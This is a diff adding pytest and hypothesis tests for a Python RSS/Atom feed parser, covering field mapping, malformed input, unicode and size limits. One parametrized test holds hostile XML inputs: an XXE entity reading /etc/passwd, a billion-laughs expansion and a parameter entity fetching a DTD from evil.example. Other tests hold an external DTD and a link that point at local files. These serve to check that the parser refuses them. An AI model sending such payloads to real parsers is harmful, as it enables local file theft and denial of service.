@@ -1,0 +1,179 @@
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from transforms.parse.feed import parse_feed
+from transforms.schema import RAW_ARTICLES
+
+# RSS 2.0 as news sites publish it: HTML in <description>, dc:creator, categories, an item without a link
+RSS = b"""<?xml version="1.0" encoding="utf-8"?>
+<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Wire</title>
+<item><title>Mali &amp; Niger sign pact</title><link>https://example.com/a</link><guid>urn:a</guid>
+<pubDate>Tue, 10 Jun 2003 04:00:00 GMT</pubDate><category>World</category><category>Africa</category>
+<dc:creator>Jane Doe</dc:creator>
+<description>&lt;p&gt;BAMAKO &lt;b&gt;(AFP)&lt;/b&gt; - The pact.&lt;/p&gt;
+&lt;script&gt;track()&lt;/script&gt;&lt;p&gt;Turner #39;s view.&lt;/p&gt;</description>
+</item>
+<item><title>No link here</title><description>Plain text.</description></item>
+</channel></rss>"""
+
+# Atom 1.0: two authors, HTML content beside a summary, an offset date in <updated> only
+ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><id>urn:feed</id><updated>2019-11-04T10:00:00+01:00</updated>
+<entry><title>Attack on base</title><link href="https://example.com/1"/><id>urn:1</id>
+<updated>2019-11-04T10:00:00+01:00</updated>
+<author><name>A One</name></author><author><name>B Two</name></author>
+<summary>Short.</summary>
+<content type="html">&lt;p&gt;Full body.&lt;/p&gt;&lt;p&gt;Second.&lt;/p&gt;</content></entry>
+</feed>"""
+
+
+def parse(data: bytes) -> list[dict]:
+    return parse_feed(data, source_uri="/in/feed.xml", source_name="wire")
+
+
+def test_rss_items_become_records():
+    first, second = parse(RSS)
+    assert first == {
+        "source_uri": "https://example.com/a",
+        "source_name": "wire",
+        "source_kind": "rss",
+        "url": "https://example.com/a",
+        "title": "Mali & Niger sign pact",
+        "body": "BAMAKO (AFP) - The pact.\n\nTurner's view.",
+        "category": "World, Africa",
+        "published_raw": "Tue, 10 Jun 2003 04:00:00 GMT",
+        "authors": "Jane Doe",
+        "external_id": "urn:a",
+        "payload": first["payload"],
+        "read_error": None,
+    }
+    assert '"link": "https://example.com/a"' in first["payload"]
+    assert (second["source_uri"], second["url"], second["body"]) == ("/in/feed.xml#2", None, "Plain text.")
+
+
+def test_atom_entries_take_content_over_summary():
+    (entry,) = parse(ATOM)
+    assert entry["source_kind"] == "atom"
+    assert entry["body"] == "Full body.\n\nSecond."
+    assert entry["authors"] == "A One, B Two"
+    assert entry["published_raw"] == "2019-11-04T10:00:00+01:00"
+
+
+def test_truncated_download_gives_the_items_it_reached():
+    data = b"<rss><channel><item><title>Whole</title></item><item><title>Cut"
+    records = parse(data)
+    assert records[0]["title"] == "Whole"
+    assert all(r["read_error"] is None for r in records)
+
+
+def test_lenient_parser_reads_a_feed_with_a_stray_ampersand():
+    # Hand-written RSS: an unescaped `&`, so not well-formed XML
+    (item,) = parse(
+        b"<rss><channel><item><title>A & B</title><link>http://x.com/1</link></item></channel></rss>"
+    )
+    assert (item["title"], item["read_error"]) == ("A & B", None)
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (b"", "not a well-formed feed"),  # an empty file
+        (b"\x00\x01\x02\xff", "not a well-formed feed"),  # binary bytes
+        (b"<html><body><p>Hello</p></body></html>", "no RSS or Atom items"),  # a web page, not its feed
+        (b"just some words", "not a well-formed feed"),  # not XML at all
+        (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', "empty feed"),
+        (b"\xff\xfe<\x00r\x00", "not a well-formed feed"),  # undecodable: UTF-16 cut in half
+    ],
+)
+def test_unreadable_feed_is_one_record_with_the_reason(data, reason):
+    (record,) = parse(data)
+    assert reason in record["read_error"]
+    assert record["source_uri"] == "/in/feed.xml"
+    assert record["payload"] is not None
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        # XXE: an external entity reading a local file
+        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        b"<rss><channel><item><title>&xxe;</title></item></channel></rss>",
+        # Billion laughs: entities expanding exponentially
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
+        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>'
+        b"<rss><channel><item><title>&lol3;</title></item></channel></rss>",
+        # A parameter entity fetching a remote DTD
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
+        # An entity declaration after an error, where expat stops before reaching it
+        b'<rss><channel><item><title>a & b</title></item></channel></rss><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+    ],
+)
+def test_entities_are_never_resolved(data):
+    (record,) = parse(data)
+    assert record["read_error"].startswith("unsafe XML")
+    assert "root:" not in record["payload"]
+
+
+def test_external_dtd_is_not_loaded():
+    # RSS 0.91's DOCTYPE names a DTD; here a local file, which must not be read
+    data = (
+        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">'
+        b"<rss><channel><item><title>T</title><description>Body</description></item></channel></rss>"
+    )
+    (record,) = parse(data)
+    assert (record["title"], record["body"]) == ("T", "Body")
+    assert "root:" not in record["payload"]
+
+
+def test_links_to_local_files_are_not_keys_or_urls():
+    data = b"<rss><channel><item><title>T</title><link>file:///etc/passwd</link></item></channel></rss>"
+    (record,) = parse(data)
+    assert (record["source_uri"], record["url"]) == ("/in/feed.xml#1", None)
+
+
+def test_deeply_nested_xml_does_not_crash():
+    data = b"<rss><channel><item><title>T</title><description>" + b"<a>" * 10_000 + b"x" + b"</a>" * 10_000
+    records = parse(data + b"</description></item></channel></rss>")
+    assert len(records) == 1
+
+
+def test_emoji_right_to_left_and_duplicate_guids():
+    item = "<item><guid>same</guid><title>مرحبا 🎉</title><description>שלום</description></item>"
+    records = parse(f"<rss><channel>{item}{item}</channel></rss>".encode())
+    assert [(r["external_id"], r["title"], r["body"]) for r in records] == [("same", "مرحبا 🎉", "שלום")] * 2
+
+
+def test_parsed_only_date_is_written_as_iso_utc():
+    # A date feedparser normalises but keeps no string for: Atom's <published> missing, dc:date present
+    data = (
+        b'<rss xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><item><title>T</title>'
+        b"<dc:date>2019-11-04T10:00:00+01:00</dc:date></item></channel></rss>"
+    )
+    (record,) = parse(data)
+    assert record["published_raw"] in ("2019-11-04T10:00:00+01:00", "2019-11-04T09:00:00Z")
+
+
+def test_a_50_mb_item_is_read():
+    body = b"word " * 10_000_000
+    (record,) = parse(
+        b"<rss><channel><item><title>T</title><description>" + body + b"</description></item></channel></rss>"
+    )
+    assert len(record["body"]) == len(body.strip())
+
+
+def test_50_mb_of_non_xml_is_refused_quickly():
+    (record,) = parse(b"a" * 50_000_000)
+    assert "not a well-formed feed" in record["read_error"]
+
+
+@settings(deadline=None, max_examples=60)
+@given(st.binary(max_size=300) | st.text(alphabet="<>/&;!rssfeditm?xl ", max_size=200).map(str.encode))
+def test_any_bytes_give_items_or_exactly_one_error(data):
+    records = parse(data)
+    assert len(records) >= 1
+    errors = [r for r in records if r["read_error"] is not None]
+    assert errors == [] or len(records) == 1
+    for record in records:
+        assert set(record) == set(RAW_ARTICLES)
+        assert record["source_kind"] in ("rss", "atom")
